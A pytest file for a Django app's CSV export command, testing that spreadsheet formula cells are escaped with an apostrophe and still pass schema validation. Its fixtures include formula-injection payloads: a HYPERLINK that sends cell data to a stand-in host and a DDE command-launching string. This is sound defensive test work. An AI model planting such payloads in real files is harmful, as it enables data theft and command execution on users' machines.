"""``export-schemes`` and spreadsheet formulas: free text is neutralised, codes are not, and
the file still passes the official validator."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from frictionless import Resource, Schema

from guichet.catalogue.models import Scheme
from guichet.catalogue.schemes_io.spec import SCHEMAS_DIR
from guichet.organisations.tests.factories import OrganisationFactory

FIXTURES = Path(__file__).resolve().parent / "fixtures" / "schemes"
PRO = FIXTURES / "dispositifs-professionnels.csv"
EXAMPLE_ID = "65d5b6c7-102c-4440-ac3b-768f708edc0a"
CORSICA_ID = "3f1c9a52-7d2e-4b8a-9c61-0a4e2d5b8f17"
SCHEMA = "dispositif-aide-professionnels"
FORMULAS = {
    "titre": '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")',
    "promesse": "+cmd|' /C calc'!A0",
    "description": "-2+3 : premier point\n- second point",
    "eligibilite": "@SUM(A1:A9)",
    "types_aides": "financement",
    "programmes_parents": "=1+1|France 2030",
    "eligibilite_forme_juridique": "@SA|SARL",
    "ciblage_secteur_activite": "-Industrie|Services",
    "chainage_paiement": "\t=A1",
}
# The codes beside them, which must keep their official pattern.
CODES = (
    "id",
    "cibles",
    "eligibilite_geographique",
    "date_mise_a_jour",
    "eligibilite_effectif_minimal",
)


def with_formulas(tmp_path: Path) -> Path:
    with PRO.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for row in rows:
        if row["id"] == EXAMPLE_ID:
            row.update(FORMULAS)
    rows = [row for row in rows if row["id"] != CORSICA_ID]
    path = tmp_path / "formules.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def import_file(path: Path) -> str:
    out = io.StringIO()
    call_command("import-schemes", str(path), "--owner", "region-sud", stdout=out)
    return out.getvalue()


def export_file(tmp_path: Path) -> Path:
    path = tmp_path / "export.csv"
    call_command(
        "export-schemes",
        "--schema",
        SCHEMA,
        "--output",
        str(path),
        stdout=io.StringIO(),
        stderr=io.StringIO(),
    )
    return path


def exported_row(path: Path, row_id: str) -> dict[str, str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return next(row for row in csv.DictReader(handle) if row["id"] == row_id)


@pytest.fixture
def region() -> None:
    OrganisationFactory.create(name="Région Sud", slug="region-sud")


@pytest.mark.django_db
@pytest.mark.usefixtures("region")
def test_formula_cells_are_exported_behind_an_apostrophe(tmp_path: Path) -> None:
    """Every free-text cell beginning with = + - @ or a tab is written with a leading « ' »."""
    import_file(with_formulas(tmp_path))
    scheme = Scheme.objects.get(external_id=EXAMPLE_ID)
    assert scheme.title == FORMULAS["titre"]  # stored as written, escaped on the way out
    row = exported_row(export_file(tmp_path), EXAMPLE_ID)
    for column, value in FORMULAS.items():
        if column == "types_aides":
            assert row[column] == "financement"
        elif column == "chainage_paiement":
            assert row[column] == "'=A1"  # the import strips the tab of a one-line cell
        else:
            assert row[column] == "'" + value, column
    for column in CODES:
        assert not row[column].startswith("'"), column


@pytest.mark.django_db
@pytest.mark.usefixtures("region")
def test_export_with_formula_cells_still_validates(tmp_path: Path) -> None:
    """The neutralised file passes frictionless against the official schema with no error."""
    import_file(with_formulas(tmp_path))
    path = export_file(tmp_path)
    descriptor = json.loads((SCHEMAS_DIR / SCHEMA / "schema.json").read_text(encoding="utf-8"))
    resource = Resource(
        path=path.name, basepath=str(path.parent), schema=Schema.from_descriptor(descriptor)
    )
    report = resource.validate()
    assert report.flatten(["rowNumber", "fieldName", "type"]) == []
    assert exported_row(path, EXAMPLE_ID)["titre"].startswith("'=HYPERLINK")


@pytest.mark.django_db
@pytest.mark.usefixtures("region")
def test_reimporting_the_neutralised_export_changes_nothing(tmp_path: Path) -> None:
    """Import → export → import keeps the text: the apostrophe is taken off again."""
    import_file(with_formulas(tmp_path))
    before = Scheme.objects.get(external_id=EXAMPLE_ID)
    report = import_file(export_file(tmp_path))
    assert "Créés : 0 ; mis à jour : 0 ; inchangés : 2 ; refusés : 0." in report
    after = Scheme.objects.get(external_id=EXAMPLE_ID)
    assert (after.title, after.description, after.parent_programmes) == (
        before.title,
        before.description,
        before.parent_programmes,
    )


@pytest.mark.django_db
@pytest.mark.usefixtures("region")
def test_text_already_beginning_with_an_apostrophe_survives(tmp_path: Path) -> None:
    """A title stored as « '=x » is written « ''=x » and read back as « '=x »."""
    import_file(with_formulas(tmp_path))
    Scheme.objects.filter(external_id=EXAMPLE_ID).update(title="'=x")
    path = export_file(tmp_path)
    assert exported_row(path, EXAMPLE_ID)["titre"] == "''=x"
    Scheme.objects.filter(external_id=EXAMPLE_ID).update(title="autre")
    import_file(path)
    assert Scheme.objects.get(external_id=EXAMPLE_ID).title == "'=x"
